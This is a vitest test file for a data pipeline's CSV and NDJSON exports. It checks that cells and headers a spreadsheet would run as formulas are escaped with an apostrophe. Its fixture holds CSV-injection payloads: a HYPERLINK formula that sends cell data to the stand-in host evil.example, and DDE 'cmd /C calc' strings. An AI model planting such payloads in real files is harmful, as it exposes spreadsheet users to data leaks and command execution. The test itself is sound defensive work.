// File exports (csv, ndjson) as written to the object store: what a spreadsheet or a CRM import reads back.
import { readFileSync } from "node:fs"
import { join } from "node:path"
import { Effect } from "effect"
import { parse } from "csv-parse/sync"
import { afterEach, beforeEach, describe, expect, it } from "vitest"
import { parseDestinations } from "../../ingest/destinations/index.ts"
import { makeFiles } from "../../ingest/destinations/files.ts"
import type { OutRecord } from "../../ingest/destinations/record.ts"
import { ObjectStore } from "../../ingest/objectstore.ts"
import { freshDir, removeDir } from "../support/pipeline.ts"

let dir: string
beforeEach(() => { dir = freshDir() })
afterEach(() => removeDir(dir))

const HOSTILE = {
  formula: "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
  dde: "+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: "\t=1+1",
  phone: "+44 20 7946 0958",
  negative: "-12.5",
  exponent: "-1e-7",
  plain: "Ann = the buyer",
}

const exported = async (type: "csv" | "ndjson", fields: Record<string, unknown>) => {
  const [config] = parseDestinations(JSON.stringify({ acme: [{ name: "sheet", type, purpose: "CrmSync" }] }))
  const record: OutRecord = { key: "k1", profileId: "prof_1", remoteId: "", fields, fingerprint: "f" }
  return Effect.runPromise(Effect.gen(function* () {
    const store = yield* ObjectStore
    const files = makeFiles(config!, store)
    const result = yield* Effect.promise(() => files.send("upsert", [record], "batch1", new AbortController().signal))
    expect(result).toMatchObject({ kind: "done" })
    return readFileSync(join(dir, "exports", "acme", "sheet", `batch1.${type}`), "utf8")
  }).pipe(Effect.provide(ObjectStore.local(dir))))
}

describe("file exports", () => {
  it("a CSV cell a spreadsheet would run as a formula starts with ', numbers and phone numbers stay as they are", async () => {
    const rows = parse(await exported("csv", HOSTILE), { columns: true }) as Array<Record<string, string>>
    expect(rows).toHaveLength(1)
    expect(rows[0]).toMatchObject({
      formula: `'${HOSTILE.formula}`, dde: `'${HOSTILE.dde}`, minus: `'${HOSTILE.minus}`, at: `'${HOSTILE.at}`, tab: `'${HOSTILE.tab}`,
      phone: HOSTILE.phone, negative: HOSTILE.negative, exponent: HOSTILE.exponent, plain: HOSTILE.plain,
    })
  })

  it("a CSV header is escaped as a cell is (an object trait's keys come after its name: traits.=X is inert)", async () => {
    const text = await exported("csv", { "=HYPERLINK(\"https://evil.example\")": "x", traits: { "=SUM(1)": "y", city: "Leeds" } })
    const [header] = parse(text) as Array<Array<string>>
    expect(header).toEqual(["recordId", "'=HYPERLINK(\"https://evil.example\")", "traits.=SUM(1)", "traits.city"])
  })

  it("NDJSON keeps every value exactly as it was", async () => {
    const [line] = (await exported("ndjson", HOSTILE)).trim().split("\n")
    expect(JSON.parse(line!)).toMatchObject(HOSTILE)
  })
})
